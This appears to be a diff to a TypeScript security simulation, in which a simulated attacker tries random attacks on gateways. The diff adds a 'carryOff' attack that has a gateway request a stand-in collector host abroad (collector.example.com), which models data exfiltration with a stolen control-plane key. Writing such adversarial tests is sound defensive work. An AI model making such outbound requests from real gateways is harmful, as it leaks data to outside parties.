@@ -30,7 +30,7 @@ export function openAttacker(): Attacker {
       while (!done()) {
         await sim.time.sleep(sim.chance.between(20_000, 240_000));
         if (done()) return;
-        const attack = sim.chance.oneOf([replay, unsigned, unapproved, forged]);
+        const attack = sim.chance.oneOf([replay, unsigned, unapproved, forged, carryOff]);
         await attack(sim, seen).catch(() => undefined);
       }
     },
@@ -111,6 +111,13 @@ async function forged(sim: Sim): Promise<void> {
     await gateway(sim, call.site).approve({ planHash, statements });
     await unapproved(sim);
   }
+}
+
+/** With the control plane's key: has a gateway ask an address abroad, which would tell it things. */
+async function carryOff(sim: Sim): Promise<void> {
+  sim.note('attacker: has a gateway ask a collector abroad');
+  const { id } = sim.chance.oneOf(sim.config.sites);
+  await gateway(sim, id).read('probe', 'http://collector.example.com/volumes');
 }
 
 function gateway(sim: Sim, site: string): Gateway {
